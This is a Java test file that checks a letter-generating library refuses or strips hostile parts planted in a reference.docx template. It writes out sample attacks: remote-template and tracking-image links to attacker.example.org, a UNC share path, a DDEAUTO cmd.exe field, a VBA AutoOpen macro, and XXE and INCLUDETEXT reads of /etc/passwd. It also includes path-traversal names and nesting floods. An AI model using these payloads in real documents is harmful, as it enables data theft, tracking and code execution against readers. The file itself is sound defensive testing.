package org.iepletters;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.docx4j.openpackaging.packages.WordprocessingMLPackage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * An organisation's {@code reference.docx} built to attack every letter: each hostile part is either refused
 * when the letters are built, with an {@link IepLettersException} naming the part, or left out of every letter,
 * which stays a valid document. Nothing reaches the console while it is read.
 */
class HostileReferenceDocxTest {

  private static final String DOCUMENT_RELS = "word/_rels/document.xml.rels";
  private static final String CONTENT_TYPES = "[Content_Types].xml";
  private static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

  private static Map<String, byte[]> reference;

  private final ByteArrayOutputStream console = new ByteArrayOutputStream();
  private PrintStream out;
  private PrintStream err;

  @BeforeAll
  static void readBuiltInReference() throws IOException {
    try (InputStream in = IepLetters.class.getClassLoader()
        .getResourceAsStream("org/iepletters/templates/reference.docx")) {
      reference = DocxContent.parts(in.readAllBytes());
    }
    // what the test set-up prints once (logging, JAXB) is not the reference's doing
    org.slf4j.LoggerFactory.getLogger(HostileReferenceDocxTest.class);
    IepLetters.defaults().warmUp();
  }

  @BeforeEach
  void watchTheConsole() {
    out = System.out;
    err = System.err;
    PrintStream watch = new PrintStream(console, true, StandardCharsets.UTF_8);
    System.setOut(watch);
    System.setErr(watch);
  }

  @AfterEach
  void nothingReachedTheConsole() {
    System.setOut(out);
    System.setErr(err);
    assertThat(console.toString(StandardCharsets.UTF_8)).as("printed while reading reference.docx").isEmpty();
  }

  @Test
  void remoteAttachedTemplateAndUpdateFieldsAreLeftOut() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/settings.xml", "<w:defaultTabStop",
        "<w:attachedTemplate r:id=\"rIdT\"/><w:defaultTabStop");
    edit(parts, "word/settings.xml", "</w:settings>", "<w:updateFields w:val=\"true\"/></w:settings>");
    parts.put("word/_rels/settings.xml.rels", rels("<Relationship Id=\"rIdT\" Type=\"" + R
        + "/attachedTemplate\" Target=\"http://attacker.example.org/evil.dotm\" TargetMode=\"External\"/>"));

    Map<String, byte[]> letter = letterParts(parts);

    String settings = text(letter, "word/settings.xml");
    assertThat(settings).doesNotContain("attachedTemplate", "updateFields", "attacker");
    assertThat(letter).doesNotContainKey("word/_rels/settings.xml.rels");
    assertNoneOfTheLetterMentions(letter, "attacker.example.org");
  }

  @Test
  void externalImageInTheFooterIsRefused() {
    Map<String, byte[]> parts = parts();
    parts.put("word/_rels/footer.xml.rels", rels("<Relationship Id=\"rIdX\" Type=\"" + R
        + "/image\" Target=\"http://attacker.example.org/track.png\" TargetMode=\"External\"/>"));
    assertRefusedNaming(parts, "word/footer.xml");
  }

  @Test
  void fileLinkInTheFooterIsRefused() {
    Map<String, byte[]> parts = parts();
    parts.put("word/_rels/footer.xml.rels", rels("<Relationship Id=\"rIdX\" Type=\"" + R
        + "/hyperlink\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>"));
    assertRefusedNaming(parts, "word/footer.xml");
  }

  @Test
  void uncImageInTheFooterIsRefused() {
    Map<String, byte[]> parts = parts();
    parts.put("word/_rels/footer.xml.rels", rels("<Relationship Id=\"rIdX\" Type=\"" + R
        + "/image\" Target=\"\\\\attacker.example.org\\share\\logo.png\" TargetMode=\"External\"/>"));
    assertRefusedNaming(parts, "word/footer.xml");
  }

  @Test
  void macroProjectIsLeftOut() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, CONTENT_TYPES, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml");
    edit(parts, CONTENT_TYPES, "</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
    edit(parts, DOCUMENT_RELS, "</Relationships>", "<Relationship Id=\"rIdV\" Type=\"http://schemas.microsoft.com/"
        + "office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>");
    parts.put("word/vbaProject.bin", "ZZMACRO Sub AutoOpen() Shell \"calc\" End Sub".getBytes(StandardCharsets.UTF_8));

    Map<String, byte[]> letter = letterParts(parts);

    assertThat(letter).doesNotContainKey("word/vbaProject.bin");
    assertThat(text(letter, CONTENT_TYPES)).doesNotContain("macroEnabled", "vbaProject");
    assertNoneOfTheLetterMentions(letter, "ZZMACRO");
  }

  @Test
  void altChunkWithAScriptIsLeftOut() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/document.xml", "<w:sectPr", "<w:altChunk r:id=\"rIdA\"/><w:sectPr");
    edit(parts, DOCUMENT_RELS, "</Relationships>", "<Relationship Id=\"rIdA\" Type=\"" + R
        + "/aFChunk\" Target=\"chunk.html\"/></Relationships>");
    edit(parts, CONTENT_TYPES, "</Types>", "<Override PartName=\"/word/chunk.html\" ContentType=\"text/html\"/></Types>");
    parts.put("word/chunk.html", "<html><body><script>ZZSCRIPT()</script></body></html>"
        .getBytes(StandardCharsets.UTF_8));

    Map<String, byte[]> letter = letterParts(parts);

    assertThat(letter).doesNotContainKey("word/chunk.html");
    assertNoneOfTheLetterMentions(letter, "ZZSCRIPT");
    assertNoneOfTheLetterMentions(letter, "altChunk");
  }

  @Test
  void oleObjectInTheBodyIsLeftOut() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/document.xml", "<w:sectPr", "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-"
        + "microsoft-com:office:office\" Type=\"Embed\" ProgID=\"Package\" r:id=\"rIdO\"/></w:object></w:r></w:p>"
        + "<w:sectPr");
    edit(parts, DOCUMENT_RELS, "</Relationships>", "<Relationship Id=\"rIdO\" Type=\"" + R
        + "/oleObject\" Target=\"embeddings/oleObject1.bin\"/></Relationships>");
    edit(parts, CONTENT_TYPES, "</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-"
        + "officedocument.oleObject\"/></Types>");
    parts.put("word/embeddings/oleObject1.bin", "ZZOLE payload".getBytes(StandardCharsets.UTF_8));

    Map<String, byte[]> letter = letterParts(parts);

    assertThat(letter.keySet()).noneMatch(name -> name.contains("embeddings"));
    assertNoneOfTheLetterMentions(letter, "ZZOLE");
    assertNoneOfTheLetterMentions(letter, "OLEObject");
  }

  @Test
  void oleObjectInTheFooterIsRefused() {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/footer.xml", "</w:ftr>", "<w:p><w:r><w:object/></w:r></w:p></w:ftr>");
    assertRefusedNaming(parts, "word/footer.xml");
  }

  @Test
  void ddeAutoFieldInTheFooterIsRefused() {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/footer.xml", "</w:ftr>", "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
        + "<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\Windows\\\\"
        + "System32\\\\cmd.exe \"/k calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        + "</w:ftr>");
    assertRefusedNaming(parts, "word/footer.xml");
  }

  @Test
  void includeTextFieldInTheFooterIsRefused() {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/footer.xml", "</w:ftr>", "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;file:///etc/passwd"
        + "&quot; \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:ftr>");
    assertRefusedNaming(parts, "word/footer.xml");
  }

  @Test
  void ddeFieldInTheBodyIsLeftOut() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/document.xml", "<w:sectPr", "<w:p><w:fldSimple w:instr=\" DDEAUTO ZZDDE \"><w:r><w:t>x</w:t>"
        + "</w:r></w:fldSimple></w:p><w:sectPr");
    edit(parts, "word/settings.xml", "</w:settings>", "<w:updateFields w:val=\"true\"/></w:settings>");

    Map<String, byte[]> letter = letterParts(parts);

    assertNoneOfTheLetterMentions(letter, "ZZDDE");
    assertThat(text(letter, "word/settings.xml")).doesNotContain("updateFields");
  }

  @Test
  void entryNamesOutsideThePackageAreRefused() {
    for (String name : new String[] {"../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "C:/evil.xml",
        "word\\..\\evil.xml"}) {
      Map<String, byte[]> parts = parts();
      parts.put(name, "<evil/>".getBytes(StandardCharsets.UTF_8));
      assertThatThrownBy(() -> build(parts))
          .as(name)
          .isInstanceOf(IepLettersException.class)
          .hasMessageContaining("reference.docx")
          .hasMessageContaining("outside the package");
    }
  }

  @Test
  void doctypeIsRefusedWhateverThePartIsCalled() {
    String hostile = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
    for (String name : new String[] {"word/STYLES.XML", "word/media/picture.png", "customXml/item1", "word/a.Xml"}) {
      Map<String, byte[]> parts = parts();
      parts.put(name, hostile.getBytes(StandardCharsets.UTF_8));
      assertThatThrownBy(() -> build(parts))
          .as(name)
          .isInstanceOf(IepLettersException.class)
          .hasMessageContaining("reference.docx: " + name)
          .hasMessageContaining("DOCTYPE")
          .satisfies(e -> assertThat(chain(e)).doesNotContain("root:"));
    }
  }

  @Test
  void foreignNamespaceInTheSectionPropertiesLeavesAReadableLetter() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/document.xml", "<w:sectPr>", "<w:sectPr xmlns:zz=\"urn:example:zz\"><zz:extra zz:a=\"1\">"
        + "<zz:deeper/></zz:extra>");

    Map<String, byte[]> letter = letterParts(parts);

    String document = text(letter, "word/document.xml");
    assertThat(DocxContent.xml(zip(letter), "word/document.xml")).isNotNull();
    assertThat(document).doesNotContain("zz:extra");
  }

  @Test
  void commentMarkersInsideCdataOrProcessingInstructionsLeaveWellFormedSettings() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/settings.xml", "</w:settings>", "<?zz keep <!-- this ?><!-- a --><w:zoom w:percent=\"100\"/>"
        + "</w:settings>");
    edit(parts, "word/styles.xml", "</w:styles>", "<!-- <![CDATA[ --> <!-- ]]> --></w:styles>");

    Map<String, byte[]> letter = letterParts(parts);

    assertThat(DocxContent.xml(zip(letter), "word/settings.xml")).isNotNull();
    assertThat(DocxContent.xml(zip(letter), "word/styles.xml")).isNotNull();
  }

  @Test
  void fortyThousandCommentsInOnePartAreRead() throws Exception {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/styles.xml", "</w:styles>", "<!-- x -->".repeat(40_000) + "<!--</w:styles>");
    assertRefusedNaming(parts, "word/styles.xml");

    Map<String, byte[]> valid = parts();
    edit(valid, "word/styles.xml", "</w:styles>", "<!-- x -->".repeat(40_000) + "</w:styles>");
    assertThat(letterParts(valid)).containsKey("word/styles.xml");
  }

  @Test
  void deeplyNestedSectionPropertiesAreRefusedWithoutAStackOverflow() {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/document.xml", "<w:sectPr>", "<w:sectPr>" + "<w:x>".repeat(100_000) + "</w:x>".repeat(100_000));
    assertRefusedNaming(parts, "word/document.xml");
  }

  @Test
  void numberingIdThatIsNotANumberIsRefused() {
    Map<String, byte[]> parts = parts();
    edit(parts, "word/numbering.xml", "<w:num w:numId=\"1\"", "<w:num w:numId=\"one\"");
    assertThatThrownBy(() -> build(parts))
        .isInstanceOf(IepLettersException.class)
        .hasMessageContaining("reference.docx")
        .hasMessageContaining("numbering");
  }

  @Test
  void documentWithoutABodyIsRefused() {
    Map<String, byte[]> parts = parts();
    String document = text(parts, "word/document.xml");
    int body = document.indexOf("<w:body>");
    parts.put("word/document.xml", (document.substring(0, body) + "</w:document>").getBytes(StandardCharsets.UTF_8));
    assertThatThrownBy(() -> build(parts))
        .isInstanceOf(IepLettersException.class)
        .hasMessageContaining("reference.docx")
        .hasMessageContaining("section properties");
  }

  @Test
  void internalImageInTheFooterIsKept() throws Exception {
    Map<String, byte[]> parts = parts();
    byte[] png = java.util.Base64.getDecoder().decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
    parts.put("word/media/logo.png", png);
    edit(parts, CONTENT_TYPES, "</Types>", "<Default Extension=\"png\" ContentType=\"image/png\"/></Types>");
    parts.put("word/_rels/footer.xml.rels", rels("<Relationship Id=\"rIdL\" Type=\"" + R
        + "/image\" Target=\"media/logo.png\"/>"));

    Map<String, byte[]> letter = letterParts(parts);

    assertThat(letter.get("word/media/logo.png")).isEqualTo(png);
    assertThat(text(letter, "word/_rels/footer.xml.rels")).contains("media/logo.png");
  }

  private static void assertNoneOfTheLetterMentions(Map<String, byte[]> letter, String text) {
    for (Map.Entry<String, byte[]> part : letter.entrySet()) {
      assertThat(new String(part.getValue(), StandardCharsets.ISO_8859_1)).as(part.getKey()).doesNotContain(text);
    }
  }

  private static void assertRefusedNaming(Map<String, byte[]> parts, String partName) {
    assertThatThrownBy(() -> build(parts))
        .isInstanceOf(IepLettersException.class)
        .hasMessageContaining("reference.docx")
        .hasMessageContaining(partName);
  }

  /** The parts of the demand letter styled by the reference, after checking docx4j loads it. */
  private static Map<String, byte[]> letterParts(Map<String, byte[]> parts) throws Exception {
    Letter letter = build(parts).render(LetterKind.DEMAND, CaseFixtures.read("speech-one-of-three"),
        CaseFixtures.asOf("speech-one-of-three"));
    WordprocessingMLPackage loaded = WordprocessingMLPackage.load(new ByteArrayInputStream(letter.docx()));
    assertThat(loaded.getMainDocumentPart().getContent()).isNotEmpty();
    Map<String, byte[]> letterParts = DocxContent.parts(letter.docx());
    for (String name : letterParts.keySet()) {
      if (name.endsWith(".xml") || name.endsWith(".rels")) {
        assertThat(DocxContent.xml(letter.docx(), name)).as(name).isNotNull();
      }
    }
    return letterParts;
  }

  private static IepLetters build(Map<String, byte[]> parts) throws IOException {
    return IepLetters.builder().referenceDocx(zip(parts)).build();
  }

  private static Map<String, byte[]> parts() {
    return new LinkedHashMap<>(reference);
  }

  private static void edit(Map<String, byte[]> parts, String name, String from, String to) {
    String xml = text(parts, name);
    assertThat(xml).as(name).contains(from);
    parts.put(name, xml.replaceFirst(java.util.regex.Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to))
        .getBytes(StandardCharsets.UTF_8));
  }

  private static String text(Map<String, byte[]> parts, String name) {
    assertThat(parts).containsKey(name);
    return new String(parts.get(name), StandardCharsets.UTF_8);
  }

  private static byte[] rels(String relationships) {
    return ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships xmlns=\"http://schemas."
        + "openxmlformats.org/package/2006/relationships\">" + relationships + "</Relationships>")
        .getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] zip(Map<String, byte[]> parts) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (Map.Entry<String, byte[]> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue());
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  private static String chain(Throwable e) {
    StringBuilder s = new StringBuilder();
    for (Throwable t = e; t != null; t = t.getCause()) {
      s.append(t.getMessage()).append('\n');
    }
    return s.toString();
  }
}
